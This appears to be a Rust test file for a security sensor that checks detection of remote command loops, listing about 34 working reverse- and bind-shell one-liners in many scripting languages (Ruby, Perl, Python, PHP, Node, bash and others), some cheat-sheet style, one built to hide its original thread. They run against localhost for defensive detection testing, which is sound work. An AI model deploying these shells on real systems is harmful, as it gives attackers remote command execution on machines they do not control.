//! No shell at all: a program holds the connection, runs each line that comes as a command, and sends back what it
//! printed. The commands' own streams are pipes.

use std::{fs, net::SocketAddr};

use anyhow::Result;
use sensor_tests::{
    carried::COMMANDS,
    lab::{LOOP, Lab, Want},
    peer::{Listener, Peer, V4, call, free_port},
    suite::Case,
};

/// [`LOOP`], and the peer calls.
pub const LOOP_INBOUND: Want = Want {
    direction: "inbound",
    ..LOOP
};

/// What bash runs.
const POPS: [(&str, &[&str], &str); 29] = [
    (
        "ruby_popen",
        &["ruby"],
        r#"exec ruby -rsocket -e 's=TCPSocket.new(ENV["H"],ENV["P"]); while l=s.gets; IO.popen(l,"r"){|io| s.print io.read}; end'"#,
    ),
    (
        "ruby_cheat_sheet",
        &["ruby"],
        r#"ruby -rsocket -e 'exit if fork;c=TCPSocket.new(ENV["H"],ENV["P"]);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'"#,
    ),
    (
        "ruby_backticks",
        &["ruby"],
        r#"exec ruby -rsocket -e 's=TCPSocket.new(ENV["H"],ENV["P"]); s.each_line{|l| s.write `#{l.chomp} 2>&1`}'"#,
    ),
    (
        "ruby_capture2e",
        &["ruby"],
        r#"exec ruby -rsocket -ropen3 -e 's=TCPSocket.new(ENV["H"],ENV["P"]); while l=s.gets; s.write Open3.capture2e(l.chomp)[0]; end'"#,
    ),
    (
        "perl_backticks",
        &["perl"],
        r#"exec perl -MIO::Socket -e '$s=IO::Socket::INET->new("$ENV{H}:$ENV{P}"); while(<$s>){ print $s `$_` }'"#,
    ),
    (
        "perl_pipe",
        &["perl"],
        r#"exec perl -MIO::Socket -e '$s=IO::Socket::INET->new("$ENV{H}:$ENV{P}");
while(<$s>){ chomp; open C,"-|",split; print $s $_ while <C>; close C }'"#,
    ),
    (
        "python_getoutput",
        &["python3"],
        r#"exec /usr/bin/python3 -c 'import os,socket,subprocess
s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
while c:=s.recv(1024): s.sendall(subprocess.getoutput(c.decode()).encode()+b"\n")'"#,
    ),
    (
        "python_popen",
        &["python3"],
        r#"exec /usr/bin/python3 -c 'import os,socket
s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
for l in s.makefile(): s.sendall(os.popen(l).read().encode())'"#,
    ),
    // The first thread ends and leaves the work, and what is open, to another one.
    (
        "python_without_its_first_thread",
        &["python3"],
        r#"exec /usr/bin/python3 -c 'import ctypes,os,socket,subprocess,threading
s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
def work():
  for l in s.makefile(): s.sendall(subprocess.getoutput(l).encode()+b"\n")
  os._exit(0)
threading.Thread(target=work).start(); ctypes.CDLL(None).pthread_exit(None)'"#,
    ),
    (
        "python_cheat_sheet",
        &["python3"],
        r#"/usr/bin/python3 -c 'import os,socket,subprocess
s=socket.socket(); s.connect((os.environ["H"],int(os.environ["P"])))
while 1:
  d=s.recv(1024)
  if not d: break
  p=subprocess.Popen(d,shell=True,stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.PIPE)
  s.send(p.stdout.read()+p.stderr.read())'; true"#,
    ),
    (
        "python_without_sh",
        &["python3"],
        r#"exec /usr/bin/python3 -c 'import os,shlex,socket,subprocess
s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
for l in s.makefile(): s.sendall(subprocess.check_output(shlex.split(l)))'"#,
    ),
    (
        "php_shell_exec",
        &["php"],
        r#"exec php -n -r '$s=fsockopen(getenv("H"),(int)getenv("P")); while($l=fgets($s)) fwrite($s,shell_exec($l));'"#,
    ),
    (
        "php_exec",
        &["php"],
        r#"exec php -n -r '$s=fsockopen(getenv("H"),(int)getenv("P"));
while($l=fgets($s)){ $o=[]; exec(trim($l),$o); fwrite($s,implode("\n",$o)."\n"); }'"#,
    ),
    (
        "php_popen",
        &["php"],
        r#"php -n -r '$s=stream_socket_client("tcp://".getenv("H").":".getenv("P"));
while($l=fgets($s)){ $p=popen($l,"r"); while(!feof($p)) fwrite($s,fread($p,1024)); pclose($p); }'; true"#,
    ),
    (
        "php_buffered_system",
        &["php"],
        r#"exec php -n -r '$s=fsockopen(getenv("H"),(int)getenv("P"));
while($l=fgets($s)){ ob_start(); system($l); fwrite($s,ob_get_clean()); }'"#,
    ),
    (
        "lua_popen",
        &["lua5.4"],
        r#"exec lua5.4 -e 'local s=require("socket").tcp(); s:connect(os.getenv("H"),os.getenv("P"))
while true do local c=s:receive(); if not c then break end; local f=io.popen(c,"r"); s:send(f:read("*a")); f:close() end'"#,
    ),
    (
        "gawk_getline",
        &["gawk"],
        r#"exec gawk 'BEGIN{ s="/inet/tcp/0/" ENVIRON["H"] "/" ENVIRON["P"]
while((s |& getline c)>0){ while((c |& getline l)>0) print l |& s; close(c); fflush(s) } }'"#,
    ),
    (
        "gawk_pipe",
        &["gawk"],
        r#"gawk 'BEGIN{ s="/inet/tcp/0/" ENVIRON["H"] "/" ENVIRON["P"]
while((s |& getline c)>0){ while((c | getline l)>0) print l |& s; close(c); fflush(s) } }'; true"#,
    ),
    (
        "tcl_exec",
        &["tclsh"],
        r#"exec tclsh <<'END'
set s [socket $env(H) $env(P)]
while {[gets $s c] >= 0} { catch { exec {*}$c } r; puts $s $r; flush $s }
END"#,
    ),
    (
        "tcl_exec_sh",
        &["tclsh"],
        r#"exec tclsh <<'END'
set s [socket $env(H) $env(P)]; fconfigure $s -buffering line
while {[gets $s c] >= 0} { puts $s [exec sh -c $c] }
END"#,
    ),
    (
        "node_exec",
        &["node"],
        r#"exec node -e 'const s=require("net").connect(process.env.P,process.env.H); s.on("end",()=>process.exit());
s.on("data",d=>require("child_process").exec(d.toString(),(e,o,x)=>s.write(o+x)))'"#,
    ),
    (
        "node_exec_sync",
        &["node"],
        r#"exec node -e 'const s=require("net").connect(process.env.P,process.env.H); s.on("end",()=>process.exit());
s.on("data",d=>s.write(require("child_process").execSync(d.toString().trim())))'"#,
    ),
    (
        "node_exec_file",
        &["node"],
        r#"exec node -e 'const s=require("net").connect(process.env.P,process.env.H); s.on("end",()=>process.exit());
s.on("data",d=>{ const [f,...a]=d.toString().trim().split(" "); require("child_process").execFile(f,a,(e,o)=>s.write(o)) })'"#,
    ),
    (
        "bash_substitution",
        &["bash"],
        r#"exec 3<>/dev/tcp/$H/$P; while read -r l <&3; do out=$(eval "$l"); echo "$out" >&3; done"#,
    ),
    (
        "bash_substitution_of_bash",
        &["bash"],
        r#"exec 3<>/dev/tcp/$H/$P; while read -r l <&3; do echo "$(bash -c "$l" 2>&1 3<&-)" >&3; done"#,
    ),
    (
        "bash_file_between",
        &["bash"],
        r#"exec 3<>/dev/tcp/$H/$P; while read -r l; do eval "$l" >out 2>&1 3<&-; cat out >&3; done <&3"#,
    ),
    (
        "bash_pipe",
        &["bash"],
        r#"exec 3<>/dev/tcp/$H/$P; while read -r l <&3; do eval "$l" 3<&- 2>&1 | cat >&3; done"#,
    ),
    (
        "zsh_substitution",
        &["zsh"],
        r#"exec zsh -fc 'zmodload zsh/net/tcp; ztcp $H $P; while read -r l <&$REPLY; do print -u $REPLY -- "$(eval $l)"; done'"#,
    ),
    (
        "dash_substitution",
        &["dash"],
        r#"exec 3<>/dev/tcp/$H/$P; exec dash -c 'while read -r l <&3; do out=$($l 3<&-); echo "$out" >&3; done'"#,
    ),
];

/// The same, and the peer calls.
const INBOUND: [(&str, &[&str], &str); 5] = [
    (
        "python",
        &["python3"],
        r#"exec /usr/bin/python3 -c 'import os,socket,subprocess
l=socket.create_server((os.environ["H"],int(os.environ["P"]))); s,_=l.accept()
for c in s.makefile(): s.sendall(subprocess.run(c,shell=True,capture_output=True).stdout)'"#,
    ),
    (
        "node",
        &["node"],
        r#"exec node -e 'require("net").createServer(s=>{ s.on("data",d=>require("child_process").exec(d.toString(),(e,o,x)=>s.write(o+x)))
s.on("end",()=>s.end()) }).listen(process.env.P,process.env.H)'"#,
    ),
    (
        "ruby",
        &["ruby"],
        r#"exec ruby -rsocket -e 's=TCPServer.new(ENV["H"],ENV["P"]).accept; while l=s.gets; s.write `#{l}`; end'"#,
    ),
    (
        "php",
        &["php"],
        r#"exec php -n -r '$s=stream_socket_accept(stream_socket_server("tcp://".getenv("H").":".getenv("P")));
while($l=fgets($s)) fwrite($s,shell_exec($l));'"#,
    ),
    (
        "perl",
        &["perl"],
        r#"exec perl -MIO::Socket -e '$s=IO::Socket::INET->new(LocalAddr=>$ENV{H},LocalPort=>$ENV{P},Listen=>1,ReuseAddr=>1)->accept;
while(<$s>){ print $s qx($_) }'"#,
    ),
];

/// Has the peer's commands executed, and demands the finding.
fn pops(lab: &Lab<'_>, mut peer: Peer, want: Want) -> Result<()> {
    for (command, answer) in COMMANDS {
        peer.send(format!("{command}\n"))?;
        peer.read_until(answer)?;
    }
    let finding = lab.risen_finding(peer.ends(), want)?;
    drop(peer);
    lab.ended(&finding)?;
    Ok(())
}

fn java(lab: &Lab<'_>, way: &str) -> Result<()> {
    fs::write(lab.path("Lines.java"), include_str!("../../programs/Lines.java"))?;
    let mut java = lab.command("java")?;
    if way == "listen" {
        let addr = SocketAddr::new(V4, free_port(V4)?);
        lab.spawn(java.args(["Lines.java", way, "127.0.0.1", &addr.port().to_string()]))?;
        return pops(lab, call(addr)?, LOOP_INBOUND);
    }
    let listener = Listener::tcp(V4)?;
    lab.spawn(java.args(["Lines.java", way, "127.0.0.1", &listener.port()?.to_string()]))?;
    pops(lab, listener.accept()?, LOOP)
}

pub fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    for (name, tools, script) in POPS {
        cases.push(Case::new(format!("pops::{name}"), tools, move |lab| {
            pops(lab, lab.calls(&Listener::tcp(V4)?, "127.0.0.1", script)?, LOOP)
        }));
    }
    for (name, tools, script) in INBOUND {
        cases.push(Case::new(format!("pops_inbound::{name}"), tools, move |lab| {
            let addr = SocketAddr::new(V4, free_port(V4)?);
            lab.bash(script, &[("H", "127.0.0.1"), ("P", &addr.port().to_string())])?;
            pops(lab, call(addr)?, LOOP_INBOUND)
        }));
    }
    for (name, way) in [
        ("pops::java_process_builder", "connect"),
        ("pops::java_runtime_exec", "runtime"),
        ("pops_inbound::java", "listen"),
    ] {
        cases.push(Case::new(name, &["java", "javac"], move |lab| java(lab, way)));
    }
    cases
}
